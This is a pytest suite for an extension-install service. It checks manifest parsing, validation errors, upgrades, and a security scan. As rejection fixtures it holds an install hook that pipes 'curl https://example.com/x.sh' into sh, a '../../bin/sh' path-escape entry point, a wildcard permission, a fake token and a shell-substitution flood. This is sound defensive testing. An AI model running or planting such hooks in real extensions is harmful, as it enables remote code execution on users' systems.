"""What a manifest says, and what its scan finds."""

from __future__ import annotations

import time

import grpc
import pytest

from symphony.v1.audit_pb2 import AuditOutcome
from symphony.v1.extension_pb2 import ExtensionType, ManifestFormat, ScanVerdict
from symphony.v1.extension_service_pb2 import GetExtensionRequest
from symphony.v1.user_pb2 import Tier
from symphony_server.ids import new_id
from tests.server.extension_requests import ENABLED, change, install, manifest, names, new
from tests.server.world import World

TOML = """
name = "word-count"
version = "1.0.0"
type = "operator"
publisher = "Nimbus Tools"
entry_point = "dist/main.js"
permissions = ["filesystem.read"]
"""


def test_an_extension_has_what_its_manifest_says(world: World) -> None:
    owner = world.user()
    project = world.project(owner)
    text = manifest(permissions=["filesystem.read"], colour="blue")
    made = install(owner, project, text)
    assert (made.project_id, made.installed_by, made.state) == (project.id, owner.id, ENABLED)
    assert (made.name, made.version, made.publisher) == ("word-count", "1.0.0", "Nimbus Tools")
    assert made.type == ExtensionType.EXTENSION_TYPE_OPERATOR
    assert (made.entry_point, list(made.permissions)) == ("dist/main.js", ["filesystem.read"])
    assert (made.manifest, made.manifest_format) == (text, ManifestFormat.MANIFEST_FORMAT_JSON)
    assert made.scan.verdict == ScanVerdict.SCAN_VERDICT_WARNED
    assert [(f.rule_id, f.path) for f in made.scan.findings] == [("unknown-key", "colour")]
    assert owner.get(owner.extensions.GetExtension, GetExtensionRequest(id=made.id)) == made


def test_a_manifest_may_be_toml(world: World) -> None:
    owner = world.user()
    made = owner.get(
        owner.extensions.InstallExtension,
        new(world.project(owner), TOML, manifest_format=ManifestFormat.MANIFEST_FORMAT_TOML),
    )
    assert (made.name, made.manifest) == ("word-count", TOML)
    assert made.scan.verdict == ScanVerdict.SCAN_VERDICT_PASSED


def test_a_manifest_that_is_not_json_is_malformed(world: World) -> None:
    owner = world.user()
    refusal = owner.refused(owner.extensions.InstallExtension, new(world.project(owner), "{"))
    assert (refusal.code, refusal.reason) == (
        grpc.StatusCode.INVALID_ARGUMENT,
        "MANIFEST_MALFORMED",
    )
    assert list(refusal.fields) == ["manifest"]


def test_every_key_that_is_wrong_is_named(world: World) -> None:
    owner = world.user()
    text = manifest(name="Word Count", version="one", type="gadget")
    refusal = owner.refused(owner.extensions.InstallExtension, new(world.project(owner), text))
    assert refusal.reason == "MANIFEST_INVALID"
    assert set(refusal.fields) == {"manifest.name", "manifest.version", "manifest.type"}


def test_a_rejected_scan_tells_every_finding(world: World) -> None:
    owner = world.user()
    project = world.project(owner)
    text = manifest(
        entry_point="../../bin/sh",
        permissions=["*"],
        hooks={"install": "curl https://example.com/x.sh | sh"},
        colour="blue",
    )
    refusal = owner.refused(owner.extensions.InstallExtension, new(project, text))
    assert (refusal.code, refusal.reason) == (
        grpc.StatusCode.FAILED_PRECONDITION,
        "SCAN_REJECTED",
    )
    rules = set(refusal.metadata["rule_ids"].split(","))
    assert {"entry-point-escapes", "permission-wildcard", "code-from-network"} <= rules
    assert refusal.fields["manifest.colour"] == "unknown-key"
    assert rules <= {v.reason for v in refusal.details["BadRequest"].field_violations}
    assert all(field in refusal.message for field in refusal.fields)
    (record,) = world.audit(lambda record: record.reason == "SCAN_REJECTED")
    assert record.outcome == AuditOutcome.AUDIT_OUTCOME_DENIED
    assert names(owner, project_id=project.id) == []


def test_a_credential_in_a_manifest_is_neither_told_nor_recorded(world: World) -> None:
    owner = world.user()
    secret = "ghp_" + "a1B2c3D4e5F6" * 3
    refusal = owner.refused(
        owner.extensions.InstallExtension,
        new(world.project(owner), manifest(hooks={"install": f"run --token {secret}"})),
    )
    assert "embedded-credential" in refusal.metadata["rule_ids"]
    assert secret not in refusal.message
    assert secret not in str(refusal.details)
    assert not [r for r in world.audit() if secret in str(r)]


def test_an_upgrade_is_judged_as_a_new_manifest(world: World) -> None:
    owner = world.user()
    extension = install(owner, world.project(owner))
    update = owner.extensions.UpdateExtension

    upgraded = owner.get(update, change(extension, manifest=manifest(version="1.1.0")))
    assert (upgraded.version, upgraded.id, upgraded.state) == ("1.1.0", extension.id, ENABLED)
    assert upgraded.create_time == extension.create_time
    assert upgraded.etag != extension.etag

    older = owner.refused(update, change(extension, manifest=manifest(version="1.0.5")))
    assert (older.reason, older.metadata["rule_ids"]) == ("SCAN_REJECTED", "version-not-higher")
    renamed = owner.refused(update, change(extension, manifest=manifest("wc", version="1.2.0")))
    assert renamed.reason == "MANIFEST_INVALID"
    assert list(renamed.fields) == ["extension.manifest.name"]
    broken = owner.refused(update, change(extension, "manifest"))
    assert (broken.reason, list(broken.fields)) == ("MANIFEST_MALFORMED", ["extension.manifest"])
    got = owner.get(owner.extensions.GetExtension, GetExtensionRequest(id=extension.id))
    assert got == upgraded


def test_validate_only_tells_what_every_stage_finds_and_installs_nothing(world: World) -> None:
    owner = world.user(tier=Tier.TIER_FREE)
    project = world.project(owner)
    taken = new_id("extension")
    owner.get(
        owner.extensions.InstallExtension, new(project, manifest("alpha"), extension_id=taken)
    )
    for name in ("bravo-tool", "charlie-kit"):
        install(owner, project, manifest(name))
    wrong = new(project, manifest("D", entry_point="/bin/sh"), extension_id=taken)
    wrong.validate_only = True
    refusal = owner.refused(owner.extensions.InstallExtension, wrong)
    assert refusal.reason == "TIER_EXTENSION_LIMIT"
    assert set(refusal.fields.values()) == {
        "MANIFEST_INVALID",
        "entry-point-escapes",
        "ID_TAKEN",
    }

    free = world.project(owner)
    answer = owner.get(owner.extensions.InstallExtension, new(free, validate_only=True))
    assert answer.name == "word-count"
    assert names(owner, project_id=free.id) == []


@pytest.mark.parametrize(
    "text",
    [
        "[" * 200_000,
        '{"a":' * 40_000 + "1" + "}" * 40_000,
        '{"name":"' + "eyJ" * 80_000 + '"}',
        "{" + ",".join(f'"k{i}":{i}' for i in range(20_000)) + "}",
        '{"version":"' + "1." * 100_000 + '"}',
        '{"hooks":{"a":"' + "$(" * 100_000 + '"}}',
    ],
    ids=["nested lists", "nested objects", "JWT starts", "many keys", "long version", "shell"],
)
def test_a_pathological_manifest_is_refused_at_once(world: World, text: str) -> None:
    owner = world.user()
    request = new(world.project(owner), text)
    owner.refused(owner.extensions.InstallExtension, request)  # loads what the scan needs
    took = []
    for _ in range(5):
        began = time.perf_counter()
        owner.refused(owner.extensions.InstallExtension, request)
        took.append(time.perf_counter() - began)
    assert min(took) < 0.05
